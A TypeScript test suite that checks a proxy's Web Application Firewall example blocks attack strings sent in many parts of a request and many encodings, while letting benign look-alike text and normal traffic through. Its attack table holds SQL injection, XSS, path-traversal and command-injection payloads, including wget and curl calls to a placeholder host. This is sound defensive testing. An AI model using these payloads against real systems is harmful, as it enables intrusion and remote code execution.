// Seed use case "Web Application Firewall": examples/waf runs as it is written, with only addresses changed.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test, type TestContext } from 'node:test'
import { fromRoot } from '../support/paths.ts'
import { startRecordingUpstream, type RecordingUpstream } from '../support/recording-upstream.ts'
import type { RequestInit } from '../support/request.ts'
import { startSentinel, type RunningSentinel } from '../support/sentinel.ts'

/** The example's own text; the address of the listener, of the target and of the socket are the test's, and the time of the agent is one for a busy machine. */
function exampleFor (upstreamPort: number): string {
  return readFileSync(fromRoot('examples', 'waf', 'sentinel.kdl'), 'utf8')
    .replace('127.0.0.1:8080', '127.0.0.1:0')
    .replace('127.0.0.1:3000', `127.0.0.1:${upstreamPort}`)
    .replace('timeout "200ms"', 'timeout "60s"')
    .replace('/tmp/sentinel-waf-example/waf.sock', 'sockets/waf.sock')
    .concat('\nobservability { metrics { address "127.0.0.1:0" } }\n')
}

async function startExample (t: TestContext): Promise<{ sentinel: RunningSentinel, upstream: RecordingUpstream }> {
  const upstream = await startRecordingUpstream(t)
  return { upstream, sentinel: await startSentinel(t, exampleFor(upstream.port)) }
}

const attacks: Readonly<Record<string, readonly string[]>> = {
  'SQL injection': ["1' OR '1'='1", "x' UNION SELECT username, password FROM users--", "1; DROP TABLE users--", "1' AND SLEEP(5)-- -"],
  'cross-site scripting': ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.cookie)>', '<a href="javascript:alert(1)">x</a>'],
  'path traversal': ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/var/www/../../etc/shadow'],
  'command injection': ['; cat /etc/passwd', '| wget http://203.0.113.9/x.sh', '`id`; ls -la', '$(curl http://203.0.113.9)'],
}

const encodings: Readonly<Record<string, (text: string) => string>> = {
  'URL-encoded': encodeURIComponent,
  'double URL-encoded': (text) => encodeURIComponent(encodeURIComponent(text)),
  'every byte URL-encoded': (text) => [...Buffer.from(text)].map((byte) => '%' + byte.toString(16).padStart(2, '0')).join(''),
  'unicode-encoded': (text) => [...text].map((char) => '%u' + char.charCodeAt(0).toString(16).padStart(4, '0')).join(''),
  'HTML-encoded': (text) => encodeURIComponent([...text].map((char) => `&#x${char.charCodeAt(0).toString(16)};`).join('')),
}

function multipart (value: string): RequestInit {
  return {
    headers: { 'content-type': 'multipart/form-data; boundary=frontier' },
    body: `--frontier\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${value}\r\n--frontier--\r\n`,
  }
}

/** Where an attacker can put a text. */
const places: Readonly<Record<string, (text: string) => { path: string, init?: RequestInit }>> = {
  'the query': (text) => ({ path: `/search?q=${encodeURIComponent(text)}` }),
  'a header': (text) => ({ path: '/', init: { headers: { 'x-comment': text } } }),
  'a cookie': (text) => ({ path: '/', init: { headers: { cookie: `theme=dark; note=${encodeURIComponent(text)}` } } }),
  'a form': (text) => ({ path: '/form', init: { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `a=1&comment=${encodeURIComponent(text)}` } }),
  'a JSON body': (text) => ({ path: '/json', init: { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ a: [1, { deep: text }] }) } }),
  'a multipart body': (text) => ({ path: '/upload', init: multipart(text) }),
}

/** One byte group at a time, so that no chunk holds the whole pattern. */
async function * inPieces (text: string, bytes: number): AsyncGenerator<Buffer> {
  const whole = Buffer.from(text)
  for (let at = 0; at < whole.length; at += bytes) {
    yield whole.subarray(at, at + bytes)
    await new Promise(setImmediate)
  }
}

test('attacks get the 403 that the agent chose and never reach the application', async (t) => {
  const { sentinel, upstream } = await startExample(t)
  const expectBlocked = async (name: string, path: string, init: RequestInit = {}): Promise<void> => {
    await t.test(name, async () => {
      const answer = await sentinel.request(path, init)
      assert.equal(answer.status, 403, `${path} ${JSON.stringify(init.headers ?? {})} ${String(init.body ?? '')}`)
      assert.equal(answer.headers['x-waf-blocked'], 'true')
      assert.match(answer.text, /blocked/i)
      assert.equal(answer.headers['x-upstream'], undefined)
    })
  }
  for (const [kind, texts] of Object.entries(attacks)) {
    for (const text of texts) {
      for (const [place, at] of Object.entries(places)) {
        const { path, init } = at(text)
        await expectBlocked(`${kind} in ${place}: ${text}`, path, init)
      }
      for (const [encoding, encode] of Object.entries(encodings)) await expectBlocked(`${kind}, ${encoding}, in the query: ${text}`, `/search?q=${encode(text)}`)
      await expectBlocked(`${kind} in a form, three bytes a chunk: ${text}`, '/form', {
        method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: inPieces(`a=1&comment=${encodeURIComponent(text)}`, 3),
      })
      await expectBlocked(`${kind} in JSON with unicode escapes: ${text}`, '/json', {
        headers: { 'content-type': 'application/json' },
        body: `{"note":"${[...text].map((char) => '\\u' + char.charCodeAt(0).toString(16).padStart(4, '0')).join('')}"}`,
      })
    }
  }
  for (const path of ['/../../../../etc/passwd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/static/..%2f..%2f..%2fetc/passwd', '/..%252f..%252f..%252fetc%252fpasswd',
    '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/item/1%27%20UNION%20SELECT%20password%20FROM%20users--', '/page/%3Cscript%3Ealert(1)%3C/script%3E', '/run/;cat%20/etc/passwd']) {
    await expectBlocked(`attack in the path: ${path}`, path)
  }
  assert.equal(upstream.heads(), 0, 'the application saw an attack')
})

test('what only looks like an attack passes', async (t) => {
  const { sentinel } = await startExample(t)
  const texts = ["O'Brien", 'select a plan', '<3', 'C++ & Java', 'Tom & Jerry; see you', '1 < 2 and 3 > 2', "rock'n'roll", 'https://example.com/a?b=c&d=e',
    'Please select one from the menu, then drop by and update us', 'union of select committees', 'cat pictures; dog pictures', 'v1..v2', 'naïve café 日本語 🎉']
  for (const text of texts) {
    for (const [place, at] of Object.entries(places)) {
      if (place === 'a header' && /[^\x20-\x7e]/.test(text)) continue // Node's client sends no such header; nor do browsers.
      await t.test(`${text} in ${place}`, async () => {
        const { path, init } = at(text)
        const answer = await sentinel.request(path, init)
        assert.equal(answer.status, 200, answer.text)
      })
    }
  }
})

test('normal traffic passes byte for byte', async (t) => {
  const { sentinel, upstream } = await startExample(t)
  const body = Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7 + (i >> 8)) & 0xff))
  const headers = { 'content-type': 'image/png', 'X-Custom-Case': 'Kept As Is', accept: 'a/b', cookie: 'session=abc; theme=dark' }
  const answer = await sentinel.request('/a%20b/c;v=1?x=1&y=%E2%82%AC&x=2', { method: 'PUT', headers, body })
  assert.equal(answer.status, 200)
  assert.ok(answer.bytes.equals(body), 'the answer is what the application sent')
  const seen = upstream.requests.at(-1)!
  assert.equal(seen.method, 'PUT')
  assert.equal(seen.url, '/a%20b/c;v=1?x=1&y=%E2%82%AC&x=2')
  assert.ok(seen.body.equals(body), 'the application got what the client sent')
  assert.equal(seen.headers['content-length'], String(body.length))
  for (const [name, value] of Object.entries(headers)) {
    const at = seen.rawHeaders.indexOf(name)
    assert.equal(seen.rawHeaders[at + 1], value, `${name} arrives with its case and value`)
  }
})

test('a body over the limit of the agent is refused, not skipped', async (t) => {
  const { sentinel, upstream } = await startExample(t)
  const headers = { 'content-type': 'text/plain' }
  const body = Buffer.alloc(1_048_577, 0x61)
  assert.equal((await sentinel.request('/said', { method: 'POST', headers, body })).status, 403, 'the agent sees the length beforehand and refuses')
  const answer = await sentinel.request('/big', { method: 'POST', headers, body: inPieces(body.toString(), 65_536) })
  assert.equal(answer.status, 413, 'the proxy stops a body that does not say its length')
  assert.equal(upstream.heads(), 0)
  const record = await sentinel.accessed(({ path }) => path === '/big')
  assert.equal(record.fault, 'AGENT_BODY_TOO_LARGE')
})
